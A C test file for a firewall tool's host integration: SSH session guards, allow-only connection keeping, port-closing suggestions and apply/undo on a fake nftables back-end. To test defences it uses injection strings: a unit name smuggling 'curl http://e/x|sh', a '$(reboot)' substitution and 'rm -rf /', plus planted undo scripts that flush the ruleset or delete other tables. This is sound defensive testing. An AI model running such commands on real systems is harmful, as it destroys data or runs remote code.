/*
 * test_fw_host.c - the firewall module where it meets the host, without a
 * kernel: the SSH session from $SSH_CONNECTION and from a fake /proc
 * (tests/data/fw/proc), the guard that keeps it alive, the connections
 * allow-only keeps, suggestions from synthetic audit findings, and
 * apply/undo bookkeeping in a temporary state directory on a fake back-end.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "portier/audit.h"
#include "portier/local.h"
#include "fw_test_util.h"

/* ---- the SSH guard ---------------------------------------------------------------- */

static void test_ssh_from_env(void **state)
{
	struct portier_fw_conn c;

	(void)state;
	assert_int_equal(portier_fw_ssh_from_env(
				 "198.51.100.9 51234 192.0.2.1 22", &c),
			 0);
	assert_int_equal(c.lport, 22);
	assert_int_equal(c.rport, 51234);
	assert_int_equal(c.family, AF_INET);
	assert_memory_equal(c.raddr, "\xc6\x33\x64\x09", 4);
	assert_int_equal(portier_fw_ssh_from_env(
				 "2001:db8::9 40000 2001:db8::1 2222", &c),
			 0);
	assert_int_equal(c.lport, 2222);
	assert_int_equal(c.family, AF_INET6);
	/* an IPv4 client seen through a dual-stack socket */
	assert_int_equal(portier_fw_ssh_from_env(
				 "::ffff:192.0.2.9 40000 ::ffff:192.0.2.1 22",
				 &c),
			 0);
	assert_int_equal(c.family, AF_INET);
	assert_memory_equal(c.raddr, "\xc0\x00\x02\x09", 4);
	assert_int_equal(portier_fw_ssh_from_env(NULL, &c), PORTIER_ENOENT);
	assert_int_equal(portier_fw_ssh_from_env("", &c), PORTIER_ENOENT);
	assert_int_equal(portier_fw_ssh_from_env("garbage", &c),
			 PORTIER_EINVAL);
	assert_int_equal(portier_fw_ssh_from_env("192.0.2.9 1 b 70000", &c),
			 PORTIER_EINVAL);
	assert_int_equal(portier_fw_ssh_from_env("host 1 b 22", &c),
			 PORTIER_EINVAL);
	assert_int_equal(portier_fw_ssh_from_env("192.0.2.9 1 b 22 x", &c),
			 PORTIER_EINVAL);
}

static void test_ssh_from_proc(void **state)
{
	char root[4096];
	struct portier_fw_conn c;

	(void)state;
	snprintf(root, sizeof(root), "%s", fixture("proc"));
	/* 300 (portier) <- 200 (bash) <- 100 (sshd, holds inode 31337) */
	assert_int_equal(portier_fw_ssh_from_proc(root, 300, &c, NULL), 0);
	assert_int_equal(c.lport, 2222);
	assert_int_equal(c.rport, 50000);
	assert_int_equal(c.family, AF_INET6);
	/* 400 (cron job) has no sshd above it */
	assert_int_equal(portier_fw_ssh_from_proc(root, 400, &c, NULL),
			 PORTIER_ENOENT);
	assert_int_equal(portier_fw_ssh_from_proc(root, 999, &c, NULL),
			 PORTIER_ENOENT);
}

static void test_ssh_guard(void **state)
{
	struct portier_fw_policy p = {0};
	struct portier_fw_spec spec;
	struct portier_fw_source src;
	struct portier_fw_conn sess;
	struct portier_err err = {0};
	int rc;

	(void)state;
	assert_int_equal(portier_fw_ssh_from_env("10.1.2.3 50000 10.0.0.1 22",
						 &sess),
			 0);
	/* not allow-only: nothing to add */
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, NULL), 0);
	assert_int_equal(p.allow[PORTIER_FW_TCP].n, 0);
	spec_of("80,443/tcp", &spec);
	assert_int_equal(portier_fw_policy_allow_only(&p, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, NULL), 1);
	assert_string_equal(fmt(&p.allow[PORTIER_FW_TCP]), "22,80,443");
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, NULL), 0);
	/* closing 22 from a prefix that does not hold the client is fine */
	spec_of("22/tcp", &spec);
	assert_int_equal(portier_fw_source_parse("10.2.0.0/16", &src, NULL), 0);
	assert_int_equal(portier_fw_policy_close(&p, &spec, &src, NULL), 0);
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, NULL), 0);
	/* from one that does, it is refused */
	assert_int_equal(portier_fw_source_parse("10.1.0.0/22", &src, NULL), 0);
	assert_int_equal(portier_fw_policy_close(&p, &spec, &src, NULL), 0);
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, &err), PORTIER_EINVAL);
	assert_non_null(strstr(err.msg, "tcp/22 from 10.1.0.0/22"));
	portier_fw_policy_free(&p);
	/* and from anywhere too */
	assert_int_equal(portier_fw_policy_close(&p, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, &err), PORTIER_EINVAL);
	assert_non_null(strstr(err.msg, "closing tcp/22 would cut the SSH"));
	assert_non_null(strstr(err.hint, "--i-know-ssh-is-closed"));
	portier_fw_policy_free(&p);

	/*
	 * Out of memory while adding the session's port is ENOMEM (the CLI
	 * maps it to exit 3 through cli_report), never the EINVAL of a policy
	 * that would cut the session (exit 2).
	 */
	p.allow_only = true; /* nothing allowed yet: adding 22 allocates */
	portier_alloc_fail_after(0);
	rc = portier_fw_guard_ssh(&p, &sess, &err);
	portier_alloc_fail_after(-1);
	assert_int_equal(rc, PORTIER_ENOMEM);
	assert_non_null(strstr(err.msg, "out of memory"));
	portier_fw_policy_free(&p);
}

/* ---- connections established before allow-only ------------------------------------ */

static void test_conns_and_keep(void **state)
{
	struct portier_fw_conn *c = NULL;
	struct portier_fw_policy p = {0}, back;
	struct portier_fw_spec spec;
	char root[4096], *json;
	size_t n = 0;

	(void)state;
	snprintf(root, sizeof(root), "%s", fixture("proc"));
	assert_int_equal(portier_fw_conns_from_proc(root, &c, &n, NULL), 0);
	/*
	 * net/tcp: 192.168.0.9:54321 -> :80; tcp6: ::ffff:192.168.1.10:49153
	 * -> :8080 (an IPv4 peer), 1234::2:40961 -> :22; not the listener,
	 * the TIME_WAIT line or the loopback session
	 */
	assert_int_equal(n, 3);
	/* allow-only 22: the connections to 80 and 8080 are kept */
	spec_of("22/tcp", &spec);
	assert_int_equal(portier_fw_policy_allow_only(&p, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_policy_keep(&p, c, n, NULL), 0);
	assert_int_equal(p.n_keep, 2);
	/* allow-only 443: all three, IPv4 and IPv6 */
	spec_of("443/tcp", &spec);
	assert_int_equal(portier_fw_policy_allow_only(&p, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_policy_keep(&p, c, n, NULL), 0);
	assert_int_equal(p.n_keep, 3);
	check_golden(&p, "render.allow-only-keep.nft");
	/* read back from what nftables listed for that script */
	json = slurp(fixture("listing-keep.json"));
	assert_non_null(json);
	assert_int_equal(portier_fw_policy_from_json(json, &back, NULL), 0);
	assert_true(portier_fw_policy_equal(&p, &back));
	free(json);
	portier_fw_policy_free(&back);
	/* a closed port's connection is not kept; nothing without allow-only */
	spec_of("80/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&p, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_policy_keep(&p, c, n, NULL), 0);
	assert_int_equal(p.n_keep, 2);
	assert_int_equal(p.keep[0].lport, 8080);
	assert_int_equal(p.keep[1].lport, 22);
	p.allow_only = false;
	assert_int_equal(portier_fw_policy_keep(&p, c, n, NULL), 0);
	assert_int_equal(p.n_keep, 0);
	portier_fw_policy_free(&p);
	portier_free(c);
}

/* ---- suggest: audit findings -> ports to close ---------------------------------------- */

static struct portier_sock mk_sock(unsigned proto, unsigned state,
				   const char *laddr, uint16_t lport,
				   const char *raddr, uint16_t rport)
{
	struct portier_sock s;

	memset(&s, 0, sizeof(s));
	s.proto = (uint8_t)proto;
	s.state = (uint8_t)state;
	s.family = strchr(laddr, ':') ? AF_INET6 : AF_INET;
	assert_int_equal(inet_pton(s.family, laddr, s.laddr), 1);
	assert_int_equal(inet_pton(s.family, raddr, s.raddr), 1);
	s.lport = lport;
	s.rport = rport;
	return s;
}

static struct portier_finding mk_finding(unsigned rule, unsigned sev,
					 unsigned proto, uint16_t port)
{
	struct portier_finding f;

	memset(&f, 0, sizeof(f));
	f.rule = (uint8_t)rule;
	f.severity = (uint8_t)sev;
	f.proto = (uint8_t)proto;
	f.port = port;
	f.proc = -1;
	return f;
}

static void test_suggest(void **state)
{
	const unsigned T = PORTIER_LOCAL_TCP, U = PORTIER_LOCAL_UDP;
	struct portier_sock socks[] = {
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 445, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "127.0.0.1", 631, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 3389, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_ESTABLISHED, "192.0.2.1", 3389,
			"198.51.100.7", 50000),
		mk_sock(T, PORTIER_SS_LISTEN, "::", 23, "::", 0),
		mk_sock(T, PORTIER_SS_ESTABLISHED, "::1", 23, "::1", 40000),
		mk_sock(U, PORTIER_SS_CLOSE, "0.0.0.0", 137, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 22, "0.0.0.0", 0),
	};
	struct portier_finding f[] = {
		mk_finding(PORTIER_AUDIT_WINDOWS_SHARING, PORTIER_RISK_HIGH, T,
			   445),
		mk_finding(PORTIER_AUDIT_NAME_MISMATCH, PORTIER_RISK_MEDIUM, T,
			   445),
		mk_finding(PORTIER_AUDIT_LOCAL_ONLY, PORTIER_RISK_MEDIUM, T, 631),
		mk_finding(PORTIER_AUDIT_RISKY_PORT, PORTIER_RISK_HIGH, T, 3389),
		mk_finding(PORTIER_AUDIT_LEGACY_SERVICE, PORTIER_RISK_HIGH, T,
			   23),
		mk_finding(PORTIER_AUDIT_WINDOWS_SHARING, PORTIER_RISK_HIGH, U,
			   137),
		mk_finding(PORTIER_AUDIT_RISKY_PORT, PORTIER_RISK_MEDIUM, T, 22),
		mk_finding(PORTIER_AUDIT_TROJAN_REMOTE, PORTIER_RISK_HIGH, T,
			   6667),
		mk_finding(PORTIER_AUDIT_UNKNOWN_PORT, PORTIER_RISK_LOW, T,
			   8080),
		mk_finding(PORTIER_AUDIT_CLOSE_WAIT, PORTIER_RISK_MEDIUM, 0, 0),
	};
	struct portier_local l;
	struct portier_fw_suggestion *sg;
	struct portier_fw_policy cur = {0};
	struct portier_fw_spec spec;
	size_t n;

	(void)state;
	memset(&l, 0, sizeof(l));
	l.socks = socks;
	l.n_socks = sizeof(socks) / sizeof(socks[0]);
	assert_int_equal(portier_fw_suggest(&l, f, sizeof(f) / sizeof(f[0]),
					    NULL, 22, PORTIER_RISK_MEDIUM, &sg,
					    &n, NULL),
			 0);
	assert_int_equal(n, 5);
	/* 22: the SSH session's; 23: loopback peers do not count as use */
	assert_int_equal(sg[0].port, 22);
	assert_false(sg[0].close);
	assert_non_null(strstr(sg[0].why_not, "SSH"));
	assert_int_equal(sg[1].port, 23);
	assert_true(sg[1].close);
	assert_int_equal(sg[2].port, 137);
	assert_int_equal(sg[2].proto, PORTIER_FW_UDP);
	assert_true(sg[2].close);
	/* 445: two findings, one entry with the worse one */
	assert_int_equal(sg[3].port, 445);
	assert_true(sg[3].close);
	assert_int_equal(sg[3].severity, PORTIER_RISK_HIGH);
	assert_ptr_equal(sg[3].finding, &f[0]);
	/* 3389: someone is connected; listed, not suggested */
	assert_int_equal(sg[4].port, 3389);
	assert_false(sg[4].close);
	assert_int_equal(sg[4].in_use, 1);
	portier_free(sg);

	/* what portier closes already is not suggested again */
	spec_of("445/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&cur, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_suggest(&l, f, sizeof(f) / sizeof(f[0]),
					    &cur, 0, PORTIER_RISK_HIGH, &sg, &n,
					    NULL),
			 0);
	assert_int_equal(n, 4); /* 22 is medium: below the threshold now */
	assert_int_equal(sg[2].port, 445);
	assert_false(sg[2].close);
	assert_string_equal(sg[2].why_not, "closed already");
	portier_free(sg);
	portier_fw_policy_free(&cur);

	/* no findings: nothing, and no error */
	assert_int_equal(portier_fw_suggest(&l, NULL, 0, NULL, 0,
					    PORTIER_RISK_MEDIUM, &sg, &n, NULL),
			 0);
	assert_int_equal(n, 0);
	portier_free(sg);
}

/* ---- apply and undo on a fake back-end --------------------------------------------- */

/*
 * The fake kernel holds portier's table as text: running a script keeps
 * what follows "delete table inet portier\n" (every script portier runs has
 * that shape); a script containing "FAIL" is refused.
 */
struct fake {
	char *table;
	int runs;
};

static struct fake fake_kernel;

static int fake_open(void **ctx, struct portier_err *err)
{
	(void)err;
	*ctx = &fake_kernel;
	return 0;
}

static void fake_close(void *ctx)
{
	(void)ctx;
}

static int fake_run(void *ctx, const char *script, bool check_only,
		    struct portier_err *err)
{
	struct fake *k = ctx;
	const char *body = strstr(script, "delete table inet portier\n");

	if (strstr(script, "FAIL") || !body)
		return portier_err_set(err, PORTIER_EIO, "refused");
	if (check_only)
		return 0;
	k->runs++;
	free(k->table);
	k->table = strdup(body + strlen("delete table inet portier\n"));
	return 0;
}

static int fake_list(void *ctx, enum portier_fw_listing how, char **out,
		     struct portier_err *err)
{
	struct fake *k = ctx;

	(void)err;
	if (how == PORTIER_FW_LIST_JSON)
		*out = portier_strdup("");
	else
		*out = portier_strdup(k->table ? k->table : "");
	return *out ? 0 : PORTIER_ENOMEM;
}

static const struct portier_fw_backend fake_backend = {
	.name = "fake",
	.open = fake_open,
	.close = fake_close,
	.run = fake_run,
	.list = fake_list,
};

/* what the fake kernel lists after script_a or script_b */
#define TABLE_A "table inet portier { comment \"A\" }\n"
#define TABLE_B "table inet portier { comment \"B\" }\n"
static const char *const script_a =
	"table inet portier\ndelete table inet portier\n" TABLE_A;
static const char *const script_b =
	"table inet portier\ndelete table inet portier\n" TABLE_B;

static void test_apply_undo(void **state)
{
	char dir[] = "/tmp/portier-test-fw.XXXXXX", *script, *what;
	struct portier_fw *fw;
	struct portier_err err = {0};
	bool changed;
	int i;

	(void)state;
	assert_non_null(mkdtemp(dir));
	fake_kernel.table = NULL;
	assert_int_equal(portier_fw_open(&fw, &fake_backend, dir, NULL), 0);
	assert_int_equal(portier_fw_lock(fw, NULL), 0);
	assert_int_equal(portier_fw_lock(fw, NULL), 0); /* held already */
	assert_int_equal(portier_fw_undo_depth(fw), 0); /* the lock is no point */
	assert_int_equal(portier_fw_undo(fw, &err), PORTIER_ENOENT);
	assert_non_null(strstr(err.msg, "nothing to undo"));

	assert_int_equal(portier_fw_apply(fw, script_a, "close 1", &changed,
					  NULL), 0);
	assert_true(changed);
	assert_string_equal(fake_kernel.table, TABLE_A);
	/* the same again: applied, but no undo point */
	assert_int_equal(portier_fw_apply(fw, script_a, "close 1", &changed,
					  NULL), 0);
	assert_false(changed);
	assert_int_equal(portier_fw_undo_depth(fw), 1);
	assert_int_equal(portier_fw_apply(fw, script_b, "close 2", &changed,
					  NULL), 0);
	assert_int_equal(portier_fw_undo_depth(fw), 2);
	/* a refused script leaves no undo point and the table as it was */
	assert_int_equal(portier_fw_apply(fw, "FAIL", "bad", &changed, &err),
			 PORTIER_EIO);
	assert_int_equal(portier_fw_undo_depth(fw), 2);
	assert_string_equal(fake_kernel.table, TABLE_B);

	assert_int_equal(portier_fw_undo_peek(fw, &script, &what, NULL), 0);
	assert_string_equal(what, "close 2");
	portier_free(script);
	portier_free(what);
	/* a description cannot break out of its comment line */
	assert_int_equal(portier_fw_apply(fw, script_a, "x\ntable evil", &changed,
					  NULL), 0);
	assert_int_equal(portier_fw_undo_peek(fw, &script, &what, NULL), 0);
	assert_string_equal(what, "x table evil");
	assert_null(strstr(script, "\ntable evil"));
	portier_free(script);
	portier_free(what);
	assert_int_equal(portier_fw_undo(fw, NULL), 0);
	assert_string_equal(fake_kernel.table, TABLE_B);
	assert_int_equal(portier_fw_undo_peek(fw, &script, &what, NULL), 0);
	assert_string_equal(what, "close 2");
	assert_non_null(strstr(script, "\n" TABLE_A));
	portier_free(script);
	portier_free(what);
	assert_int_equal(portier_fw_undo(fw, NULL), 0);
	assert_string_equal(fake_kernel.table, TABLE_A);
	assert_int_equal(portier_fw_undo(fw, NULL), 0);
	assert_string_equal(fake_kernel.table, ""); /* no table at first */
	assert_int_equal(portier_fw_undo_depth(fw), 0);

	/* old undo points are pruned */
	for (i = 0; i < PORTIER_FW_UNDO_KEEP + 5; i++)
		assert_int_equal(portier_fw_apply(fw, i % 2 ? script_a
							    : script_b,
						  "flip", &changed, NULL),
				 0);
	assert_int_equal(portier_fw_undo_depth(fw), PORTIER_FW_UNDO_KEEP);
	portier_fw_close(fw);
	free(fake_kernel.table);
	fake_kernel.table = NULL;
	{
		char cmd[4200];

		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
		assert_int_equal(system(cmd), 0);
	}
}

static void test_state_dir_unwritable(void **state)
{
	struct portier_fw *fw;
	struct portier_err err = {0};
	bool changed;
	int runs = fake_kernel.runs;

	(void)state;
	assert_int_equal(portier_fw_open(&fw, &fake_backend,
					 "/proc/portier-no/fw", NULL),
			 0);
	assert_true(portier_fw_lock(fw, &err) < 0);
	assert_non_null(strstr(err.msg, "state directory"));
	assert_true(portier_fw_apply(fw, script_a, "x", &changed, &err) < 0);
	assert_non_null(strstr(err.msg, "state directory"));
	assert_int_equal(fake_kernel.runs, runs);
	assert_null(fake_kernel.table); /* nothing applied */
	portier_fw_close(fw);
}

/* rm -rf dir */
static void remove_tree(const char *dir)
{
	char cmd[4200];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	assert_int_equal(system(cmd), 0);
}

/* Write text to dir/name with mode. */
static void put_file(const char *dir, const char *name, const char *text,
		     mode_t mode)
{
	char path[4200];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	assert_int_equal(chmod(path, mode), 0);
}

/*
 * Root runs what is in the state directory: one someone else could write
 * to, a symlink, a planted undo point or a stale temporary symlink must not
 * be trusted.
 */
static void test_state_dir_trust(void **state)
{
	char dir[] = "/tmp/portier-test-fwtrust.XXXXXX", sub[4200], link[4200];
	char victim[4200], *script = NULL, *what = NULL, *text;
	struct portier_fw *fw;
	struct portier_err err = {0};
	bool changed;
	int runs;

	(void)state;
	assert_non_null(mkdtemp(dir));
	free(fake_kernel.table);
	fake_kernel.table = NULL;

	/* a world-writable directory (another user made /tmp/x first) */
	snprintf(sub, sizeof(sub), "%s/shared", dir);
	assert_int_equal(mkdir(sub, 0777), 0);
	assert_int_equal(chmod(sub, 01777), 0);
	assert_int_equal(portier_fw_open(&fw, &fake_backend, sub, NULL), 0);
	assert_int_equal(portier_fw_lock(fw, &err), PORTIER_EPERM);
	assert_non_null(strstr(err.msg, "refusing the state directory"));
	assert_non_null(strstr(err.msg, sub));
	assert_non_null(strstr(err.hint, "chmod 700"));
	assert_true(portier_fw_apply(fw, script_a, "x", &changed, &err) < 0);
	assert_int_equal(portier_fw_undo(fw, &err), PORTIER_EPERM);
	portier_fw_close(fw);

	/* owned by another user */
	if (geteuid() == 0) {
		assert_int_equal(chmod(sub, 0700), 0);
		assert_int_equal(chown(sub, 65534, 65534), 0);
		assert_int_equal(portier_fw_open(&fw, &fake_backend, sub, NULL),
				 0);
		assert_int_equal(portier_fw_lock(fw, &err), PORTIER_EPERM);
		assert_non_null(strstr(err.msg, "owned by uid 65534"));
		portier_fw_close(fw);
	}

	/* a symlink to a directory */
	snprintf(link, sizeof(link), "%s/link", dir);
	snprintf(sub, sizeof(sub), "%s/real", dir);
	assert_int_equal(mkdir(sub, 0700), 0);
	assert_int_equal(symlink(sub, link), 0);
	assert_int_equal(portier_fw_open(&fw, &fake_backend, link, NULL), 0);
	assert_int_equal(portier_fw_lock(fw, &err), PORTIER_EPERM);
	assert_non_null(strstr(err.msg, "symbolic link"));
	portier_fw_close(fw);

	/* a stale temporary file that is a symlink is replaced, not followed */
	snprintf(victim, sizeof(victim), "%s/victim", dir);
	put_file(dir, "victim", "precious\n", 0600);
	snprintf(link, sizeof(link), "%s/undo-1.nft.tmp", sub);
	assert_int_equal(symlink(victim, link), 0);
	assert_int_equal(portier_fw_open(&fw, &fake_backend, sub, NULL), 0);
	assert_int_equal(portier_fw_lock(fw, NULL), 0);
	assert_int_equal(portier_fw_apply(fw, script_a, "close 1", &changed,
					  &err),
			 0);
	text = slurp(victim);
	assert_string_equal(text, "precious\n");
	free(text);
	assert_int_equal(portier_fw_undo_depth(fw), 1);

	/* a planted undo point that flushes everything is refused */
	runs = fake_kernel.runs;
	put_file(sub, "undo-999999999.nft",
		 "table inet portier\ndelete table inet portier\n"
		 "flush ruleset\n", 0600);
	assert_int_equal(portier_fw_undo_peek(fw, &script, &what, &err),
			 PORTIER_EPROTO);
	assert_null(script);
	assert_non_null(strstr(err.msg, "flush ruleset"));
	assert_non_null(strstr(err.msg, "undo-999999999.nft"));
	assert_int_equal(portier_fw_undo(fw, &err), PORTIER_EPROTO);
	assert_int_equal(fake_kernel.runs, runs);
	/* ... and so is one naming another table, even after a ';' */
	put_file(sub, "undo-999999999.nft",
		 "table inet portier\ndelete table inet portier\n"
		 "table inet portier { comment \"}\" }; delete table ip nat\n",
		 0600);
	assert_int_equal(portier_fw_undo(fw, &err), PORTIER_EPROTO);
	assert_non_null(strstr(err.msg, "delete table ip nat"));
	put_file(sub, "undo-999999999.nft",
		 "table inet portier\ndelete table inet portier\n"
		 "table ip filter {\n}\n", 0600);
	assert_int_equal(portier_fw_undo(fw, &err), PORTIER_EPROTO);
	assert_non_null(strstr(err.msg, "table ip filter"));
	/* a good script that others could have written is refused too */
	put_file(sub, "undo-999999999.nft",
		 "table inet portier\ndelete table inet portier\n", 0666);
	assert_int_equal(portier_fw_undo(fw, &err), PORTIER_EPERM);
	assert_non_null(strstr(err.msg, "mode 666"));
	assert_int_equal(fake_kernel.runs, runs);
	/* a well-formed one of ours, with comments and strings, runs */
	put_file(sub, "undo-999999999.nft",
		 "# portier firewall undo point { not a block\n"
		 "table inet portier # trailing comment\n"
		 "delete table inet portier\n"
		 "table inet portier {\n\tcomment \"a; b { c\"\n"
		 "\tset close_tcp {\n\t\ttype inet_service\n\t}\n}\n",
		 0600);
	assert_int_equal(portier_fw_undo(fw, &err), 0);
	assert_int_equal(fake_kernel.runs, runs + 1);
	assert_int_equal(portier_fw_undo_depth(fw), 1);
	portier_fw_close(fw);
	free(fake_kernel.table);
	fake_kernel.table = NULL;
	remove_tree(dir);
}

/*
 * The stop command printed after close is copied into a root shell: names
 * from a (possibly delegated) cgroup path must not inject commands.
 */
static void test_stop_command(void **state)
{
	struct portier_proc p = {.pid = 812};
	char buf[600];

	(void)state;
	portier_fw_stop_command(NULL, buf, sizeof(buf));
	assert_string_equal(buf, "find the owner with 'sudo portier local -l'");
	p.unit = "smbd.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "systemctl disable --now smbd.service");
	p.unit = "getty@tty1.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "systemctl disable --now getty@tty1.service");
	p.unit = "run-u7\\x2dx.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "systemctl disable --now run-u7\\x2dx.service");
	/* a delegated cgroup's chosen name: quoted, one word, no command */
	p.unit = "x;curl http://e/x|sh #.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "systemctl disable --now "
				 "'x;curl http://e/x|sh #.service'");
	p.unit = "a'$(reboot)'.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "systemctl disable --now "
				 "'a'\\''$(reboot)'\\''.service'");
	/* control characters (terminal escapes, newlines): no command */
	p.unit = "x\nrm -rf /\n.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "kill 812 (and remove what starts it)");
	p.unit = "x\033[2J.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "kill 812 (and remove what starts it)");
	/* a command that would not fit whole is not printed cut */
	p.unit = "x;y.service";
	portier_fw_stop_command(&p, buf, 30);
	assert_string_equal(buf, "kill 812 (and remove what sta");
	/* containers alike */
	p.unit = NULL;
	p.container = "docker:0123456789ab";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "docker stop 0123456789ab");
	p.container = "podman:a b;id";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "podman stop 'a b;id'");
	p.container = "lxc:c1";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "kill 812 (and remove what starts it)");
}

/*
 * No session found (sudo in tmux): the guard falls back on the listeners
 * and refuses a change that newly drops a port sshd listens on.
 */
static void test_sshd_guard(void **state)
{
	const unsigned T = PORTIER_LOCAL_TCP;
	struct portier_sock socks[] = {
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 22, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "::", 22, "::", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 80, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "127.0.0.1", 2222, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 2200, "0.0.0.0", 0),
	};
	struct portier_owner owners[] = {
		{.proc = 0, .fd = 3}, {.proc = 0, .fd = 4}, {.proc = 1, .fd = 5},
		{.proc = 0, .fd = 6}, {.proc = 2, .fd = 3},
	};
	struct portier_proc procs[] = {
		{.pid = 700, .comm = "sshd"},
		{.pid = 800, .comm = "nginx"},
		{.pid = 900, .comm = "sshd-session"},
	};
	struct portier_fw_policy before = {0}, after = {0};
	struct portier_fw_spec spec;
	struct portier_err err = {0};
	struct portier_local l;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(socks) / sizeof(socks[0]); i++) {
		socks[i].owner_first = (uint32_t)i;
		socks[i].owner_count = 1;
	}
	memset(&l, 0, sizeof(l));
	l.socks = socks;
	l.n_socks = sizeof(socks) / sizeof(socks[0]);
	l.owners = owners;
	l.n_owners = sizeof(owners) / sizeof(owners[0]);
	l.procs = procs;
	l.n_procs = sizeof(procs) / sizeof(procs[0]);

	/* allow-only 80,443: sshd's 22 would be dropped */
	spec_of("80,443/tcp", &spec);
	assert_int_equal(portier_fw_policy_allow_only(&after, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, &err),
			 PORTIER_EINVAL);
	assert_non_null(strstr(err.msg, "sshd (pid 700) listens on tcp/22"));
	assert_non_null(strstr(err.hint, "add 22/tcp to the allowed ports"));
	assert_non_null(strstr(err.hint, "--i-know-ssh-is-closed"));
	/* with 22 (and sshd-session's 2200) allowed: fine */
	spec_of("22,2200/tcp", &spec);
	assert_int_equal(portier_fw_policy_open(&after, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, NULL), 0);
	portier_fw_policy_free(&after);

	/* close 22: refused; close 80 (nginx) or 2222 (loopback only): fine */
	spec_of("22/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&after, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	memset(&err, 0, sizeof(err));
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, &err),
			 PORTIER_EINVAL);
	assert_non_null(strstr(err.hint, "leave 22 out of the list"));
	/* ... unless the rules in place drop it already (closed on purpose) */
	spec_of("22/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&before, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(&before, &after, &l, NULL), 0);
	portier_fw_policy_free(&before);
	portier_fw_policy_free(&after);
	spec_of("80,2222/tcp,22/udp", &spec);
	assert_int_equal(portier_fw_policy_close(&after, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, NULL), 0);
	/* sshd-session counts as sshd too */
	spec_of("2200/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&after, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, &err),
			 PORTIER_EINVAL);
	assert_non_null(strstr(err.msg, "sshd-session (pid 900) listens on "
					"tcp/2200"));
	portier_fw_policy_free(&after);
	/* owners unknown (not root): nothing to go on, nothing refused */
	for (i = 0; i < l.n_socks; i++)
		socks[i].owner_count = 0;
	after.allow_only = true;
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, NULL), 0);
}

/*
 * A kernel that lists fixed text: the JSON and stateless nft listings of
 * one table, taken from nft 1.0.6 (tests/data/fw/listing-rules.*).
 */
static char *listed_json, *listed_text;

static int fixed_list(void *ctx, enum portier_fw_listing how, char **out,
		      struct portier_err *err)
{
	(void)ctx;
	(void)err;
	*out = portier_strdup(how == PORTIER_FW_LIST_JSON ? listed_json
							  : listed_text);
	return *out ? 0 : PORTIER_ENOMEM;
}

static const struct portier_fw_backend fixed_backend = {
	.name = "fixed",
	.open = fake_open,
	.close = fake_close,
	.run = fake_run,
	.list = fixed_list,
};

/* Replace the first occurrence of from in listed_text by to. */
static void edit_listing(const char *orig, const char *from, const char *to)
{
	const char *at = strstr(orig, from);
	size_t head;

	assert_non_null(at);
	head = (size_t)(at - orig);
	free(listed_text);
	listed_text = malloc(strlen(orig) + strlen(to) + 1);
	assert_non_null(listed_text);
	memcpy(listed_text, orig, head);
	strcpy(listed_text + head, to);
	strcat(listed_text, at + strlen(from));
}

/*
